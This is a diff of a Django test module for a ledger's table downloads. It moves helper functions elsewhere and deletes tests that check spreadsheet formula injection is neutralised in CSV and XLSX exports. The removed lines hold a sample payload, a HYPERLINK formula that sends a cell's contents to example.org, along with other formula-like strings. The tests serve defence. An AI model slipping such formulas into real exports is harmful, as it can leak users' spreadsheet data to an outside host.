@@ -1,9 +1,6 @@
 """Tables as files: whole, as they are filtered, and what they say of themselves."""
 
-import csv
-import io
 import json
-import zipfile
 from datetime import date
 from decimal import Decimal
 from html import unescape
@@ -12,17 +9,15 @@ from urllib.parse import unquote
 
 import pytest
 from django.test import Client
-from django.utils.encoding import force_bytes
-from python_calamine import CalamineWorkbook
 
 from carsi_tracker.exchange import writing
 from carsi_tracker.exchange.columns import NAMES
 from carsi_tracker.exchange.downloads import TABLES
 from carsi_tracker.figures import answers
 from carsi_tracker.figures.reading import newest, read
-from carsi_tracker.ledger.models import Batch, Entry, Line, Posting
-from tests import factories
+from carsi_tracker.ledger.models import Posting
 from tests.exchange.conftest import Way, case
+from tests.exchange.files import body, rows, sheets
 
 pytestmark = pytest.mark.usefixtures("sourced")
 
@@ -40,20 +35,6 @@ VIEWS = (
     "amount_to=0",
     "document=gao-13-295r&basis=stated",
 )
-
-
-def body(response: Any) -> bytes:
-    assert response.status_code == 200
-    return b"".join(map(force_bytes, response))
-
-
-def rows(client: Client, address: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(body(client.get(address)).decode(), newline="")))
-
-
-def sheets(client: Client, address: str) -> list[list[list[Any]]]:
-    book = CalamineWorkbook.from_filelike(io.BytesIO(body(client.get(address))))
-    return [book.get_sheet_by_index(number).to_python() for number in (0, 1)]
 
 
 def asked(query: str) -> Any:
@@ -147,72 +128,6 @@ def test_each_table_is_offered_as_files_with_what_it_shows(
     shown = client.get(language + page, follow=True).content.decode()
     assert f'href="{language}/tables/{file}"' in unescape(shown)
     assert body(client.get(f"{language}/tables/{file}"))
-
-
-@pytest.fixture
-def formulas(command: Way) -> Batch:
-    """Amounts whose texts a spreadsheet would compute, posted."""
-    made = command("formulas.csv", case("formulas.csv")).batch
-    assert made
-    Line.objects.filter(batch=made, locator="-2+3").update(quote="''=1+1")
-    factories.posted(made)
-    return made
-
-
-FORMULA = '=HYPERLINK("http://example.org/?x="&A2,"open")'
-
-
-def test_19_text_that_a_spreadsheet_would_compute_has_an_apostrophe_in_csv(
-    client: Client, formulas: Batch
-) -> None:
-    first, second = rows(client, "/tables/entries.csv?date_from=2010-03-15&date_to=2010-03-15")
-    assert first["note"] == f"'{FORMULA}"
-    assert first["locator"] == "'-2+3"
-    assert first["quote"] == "'''=1+1"
-    assert first["amount_usd"] == "-10000.00"
-    assert second["title"] == "'@Puesto fronterizo, Honduras"
-    assert second["partner"] == "'+504 Fundación"
-    assert second["note"] == "'-"
-    names = [row["title"] for row in rows(client, "/tables/commitments.csv")]
-    assert "'@Puesto fronterizo, Honduras" in names
-    negative = [row for row in rows(client, "/tables/entries.csv") if row["amount_usd"][0] == "-"]
-    assert any(row["amount_usd"] == "-6750000.00" for row in negative)
-
-
-def test_19_the_same_text_is_text_in_a_workbook_and_amounts_are_numbers(
-    client: Client, formulas: Batch
-) -> None:
-    address = "/tables/entries.xlsx?date_from=2010-03-15&date_to=2010-03-15"
-    (headings, first, second), _about = sheets(client, address)
-    cells = dict(zip(headings, first, strict=True))
-    assert cells["note"] == FORMULA
-    assert cells["locator"] == "-2+3"
-    assert cells["quote"] == "''=1+1"
-    assert Decimal(str(cells["amount_usd"])) == -10000
-    assert not isinstance(cells["amount_usd"], str)
-    assert cells["effective_date"] == date(2010, 3, 15)
-    assert "+504 Fundación" in second
-    with zipfile.ZipFile(io.BytesIO(body(client.get(address)))) as parts:
-        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
-        assert b"hyperlink" not in parts.read("xl/worksheets/sheet1.xml")
-
-
-@pytest.mark.parametrize("kind", ["csv", "xlsx"])
-def test_19_importing_a_download_gives_the_original_back(
-    client: Client, command: Way, formulas: Batch, kind: str
-) -> None:
-    version = Posting.objects.get(batch=formulas).version
-    file = body(client.get(f"/tables/entries.{kind}?posted_in={version}"))
-    outcome = command(f"again.{kind}", file, new=True)
-    assert outcome.accepted, outcome.said
-    compared = (
-        "commitment", "stage", "amount", "effective_date", "document", "locator", "basis", "note",
-        "quote",
-    )  # fmt: skip
-    posted = Entry.objects.filter(posting=version).values_list(*compared)
-    drafted = Line.objects.filter(batch=outcome.batch).order_by("pk").values_list(*compared)
-    assert list(drafted) == list(posted)
-    assert len(drafted) == 2
 
 
 def test_the_whole_ledger_can_be_imported_from_its_own_download(
